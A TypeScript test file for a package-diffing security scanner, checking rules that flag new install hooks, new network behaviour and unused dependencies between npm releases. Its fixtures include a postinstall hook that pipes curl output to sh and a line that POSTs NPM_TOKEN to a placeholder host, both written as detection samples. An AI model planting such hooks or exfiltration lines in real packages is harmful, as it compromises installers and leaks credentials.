import assert from "node:assert/strict";
import { test } from "node:test";
import type { PackageChange } from "../../model/index.ts";
import { evidenceOf, inputOf, npmPurl } from "../testing.ts";
import { comparePackages } from "./analysis/compare.ts";
import { packageFacts } from "./analysis/files-package.ts";
import { newBehaviour } from "./new-behaviour.ts";
import { newDependency } from "./new-dependency.ts";
import { newSelfRun } from "./new-self-run.ts";

type Files = Readonly<Record<string, string>>;

const factsOf = async (version: string, files: Files): ReturnType<typeof packageFacts> =>
  await packageFacts(
    npmPurl("a", version),
    Object.entries(files).map(([path, text]) => ({ path, executable: false, bytes: Buffer.from(text) })),
  );

async function changed(before: Files, after: Files): Promise<PackageChange> {
  return comparePackages(await factsOf("1.0.0", before), await factsOf("1.0.1", after));
}

const rules = [newSelfRun, newBehaviour, newDependency];

function ask(change: PackageChange | null): readonly string[] {
  const input = inputOf({ packages: { "node_modules/a": { version: "1.0.1" } } });
  const evidence = change === null ? evidenceOf({}) : { ...evidenceOf({}), change: () => change };
  return rules.flatMap((rule) => rule.run({ ...input, evidence }).findings.map(({ rule: id, severity }) => `${id} ${severity}`));
}

const manifest = (more: object = {}): string => JSON.stringify({ name: "a", version: "1.0.0", main: "index.js", ...more });
const honest = { "package.json": manifest(), "index.js": "module.exports = (a, b) => a + b;\n" };

test("a release that only changes what it computes is no finding", async () => {
  assert.deepEqual(ask(await changed(honest, { ...honest, "index.js": "module.exports = (a, b) => b + a;\n" })), []);
});

test("a hook that the release before did not have is found, with what it does", async () => {
  const after = { ...honest, "package.json": manifest({ scripts: { postinstall: "curl -s http://127.0.0.1:9/a | sh" } }) };
  const found = ask(await changed(honest, after));
  assert.ok(found.includes("behaviour/new-self-run high"), found.join());
  assert.deepEqual(ask(await changed(after, after)), [], "and is no news the second time");
});

test("a secret that newly leaves is found", async () => {
  const after = {
    ...honest,
    "index.js": `module.exports = (a, b) => a + b;\nfetch("https://a.invalid/", { method: "POST", body: process.env.NPM_TOKEN });\n`,
  };
  assert.ok(ask(await changed(honest, after)).some((finding) => finding.startsWith("behaviour/new-behaviour")));
});

test("a dependency that no code asks for is found, one that is imported is not", async () => {
  const wanting = manifest({ dependencies: { b: "^1.0.0" } });
  assert.ok(ask(await changed(honest, { ...honest, "package.json": wanting })).includes("behaviour/new-dependency low"));
  const used = { "package.json": wanting, "index.js": `const b = require("b");\nmodule.exports = (a) => b(a);\n` };
  assert.deepEqual(ask(await changed(honest, used)), []);
});

test("where nothing was compared nobody is asked, and where it could not be, it is said", () => {
  assert.deepEqual(ask(null), []);
  const input = inputOf({ packages: { "node_modules/a": { version: "1.0.1" } } });
  const gap = { unavailable: true as const, code: "source/offline" as const, because: "this run is offline" };
  const result = newSelfRun.run({ ...input, evidence: { ...evidenceOf({}), change: () => gap } });
  assert.equal(result.answered, 0);
  assert.equal(result.unanswered.length, 1);
});
